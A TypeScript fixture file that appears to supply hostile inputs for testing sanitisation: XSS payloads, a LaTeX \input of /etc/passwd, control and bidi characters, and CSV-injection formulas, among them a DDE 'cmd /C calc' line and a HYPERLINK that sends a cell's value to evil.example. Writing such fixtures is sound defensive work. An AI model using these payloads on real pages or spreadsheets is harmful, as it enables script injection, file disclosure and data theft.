/** What no page may ever run or be made of, by what it tries. */
export const HOSTILE_TEXTS = {
  'an element with a handler': '<img src=x onerror="alert(1)">',
  'a quote that leaves an attribute': '" onmouseover="alert(1)" x="',
  'a quote of the other kind': "' autofocus onfocus='alert(1)",
  'the end of a script': '</script><script>alert(1)</script>',
  'the end of a title and a comment': '</title></style><!-- --><script>alert(1)//',
  'a picture with a script': '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">',
  'a reference to a character': '&lt;script&gt;&#60;img&#62;&colon;&Tab;',
  'a template of ours': '{title} $ {alert(1)} {{constructor.constructor("alert(1)")()}}',
  'a link that runs': 'javascript:alert(1)',
  'the end of CDATA and of a comment': ']]>--><script>alert(1)</script>',
  'signs that end a line in scripts': 'a\u2028alert(1)\u2029b',
  'BibTeX and LaTeX': '}},\n@misc{x, title={\\input{/etc/passwd}}',
} as const satisfies Readonly<Record<string, string>>;

/** What no text of the record may hold at all. */
export const FORBIDDEN_TEXTS = {
  'a null byte': 'a\u0000b',
  'a bell': 'a\u0007b',
  'a turn of direction': 'Minsk \u202eksniM',
  'an isolate': 'a\u2067b',
  'half of a character': 'a\ud800b',
  '100 kB': 'long '.repeat(20_000),
} as const satisfies Readonly<Record<string, string>>;

/** What spreadsheets run (OWASP, "CSV Injection"). */
export const FORMULA_TEXTS = [
  '=1+1',
  '+1+1',
  "-1+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '-2+3";=1+1;"',
] as const;
